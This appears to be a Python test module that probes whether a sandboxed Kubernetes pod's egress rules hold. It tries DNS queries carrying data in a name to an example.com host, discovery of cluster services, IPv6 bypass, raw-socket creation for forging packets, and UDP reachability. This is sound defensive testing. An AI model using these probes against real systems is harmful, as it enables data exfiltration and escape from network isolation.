"""Names, other protocols and forged packets."""

from __future__ import annotations

import asyncio
import socket
import struct

from dev.attack.inside.base import Outcome, Pod, attack, decide, held, opened, untried
from dev.attack.inside.places import reaches

_V6 = ("[2001:4860:4860::8888]:53", "[2606:4700:4700::1111]:443", "[fd00::1]:443", "[fe80::1]:10250")


def _nameservers() -> list[str]:
    with open("/etc/resolv.conf") as file:  # noqa: PTH123  # three lines
        return [line.split()[1] for line in file if line.startswith("nameserver")]


def _build_query(name: str) -> bytes:
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


async def _resolve(name: str) -> str:
    """Ask the pod's nameserver; return what came: nothing, or the answer's code."""
    loop = asyncio.get_running_loop()
    for server in _nameservers():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.setblocking(False)
            try:
                await loop.sock_connect(probe, (server, 53))
                await loop.sock_sendall(probe, _build_query(name))
                async with asyncio.timeout(3):
                    answer = await loop.sock_recv(probe, 512)
            except (TimeoutError, OSError):
                continue
            return f"code {answer[3] & 15}"
    return ""


@attack("closed-names", "carry data out by names, where a class has egress GatewayOnly")
async def names_out(_pod: Pod) -> Outcome:
    """Ask for a name that holds data."""
    answer = await _resolve("4711-secret-of-the-workspace.example.com")
    return decide(not answer, f"a nameserver answered with {answer}" if answer else "no nameserver answers")


@attack("closed-services", "find the cluster's services by their names, where a class has egress GatewayOnly")
async def names_inside(_pod: Pod) -> Outcome:
    """Ask for what is inside."""
    found = [
        n
        for n in ("kubernetes.default.svc.cluster.local", "kube-dns.kube-system.svc.cluster.local")
        if await _resolve(n)
    ]
    return decide(not found, f"answered: {', '.join(found) or 'none'}")


@attack("closed-public", "connect to a public host, where a class has egress GatewayOnly")
async def public(pod: Pod) -> Outcome:
    """Try a public address."""
    address = pod.facts.addresses.get("public")
    if not address:
        return untried("there is no public host to try")
    result = await reaches(address)
    return decide(result != "open", f"{address}: {result}")


@attack("net-ipv6", "go around the rules by IPv6")
async def ipv6(_pod: Pod) -> Outcome:
    """Try addresses of the other family."""
    results = await asyncio.gather(*(reaches(address) for address in _V6))
    return decide("open" not in results, ", ".join(sorted(set(results))))


@attack("net-raw", "open a raw socket, to forge addresses")
def raw(_pod: Pod) -> Outcome:
    """Try what needs a capability."""
    for family, kind, protocol in (
        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
        (socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)),
    ):
        try:
            socket.socket(family, kind, protocol).close()
        except PermissionError:
            continue
        except OSError as error:
            return untried(f"{error}")
        return opened(f"a raw socket of family {family}")
    return held("the kernel refuses both kinds: no capability")


@attack("net-udp", "reach the other parts by UDP")
async def udp(pod: Pod) -> Outcome:
    """Send to a host's port 53 that is no nameserver of the pod's."""
    address = pod.facts.addresses.get("private")
    if not address:
        return untried("there is no private host to try")
    loop = asyncio.get_running_loop()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.setblocking(False)
        await loop.sock_connect(probe, (address.rpartition(":")[0], 8000))
        try:
            await loop.sock_sendall(probe, b"hello")
            async with asyncio.timeout(2):
                await loop.sock_recv(probe, 64)
        except TimeoutError:
            return held("no answer")
        except OSError as error:
            # the host's own "nobody listens" came back: the packet had arrived
            return decide(not isinstance(error, ConnectionRefusedError), f"{type(error).__name__}")
    return opened("it answered")
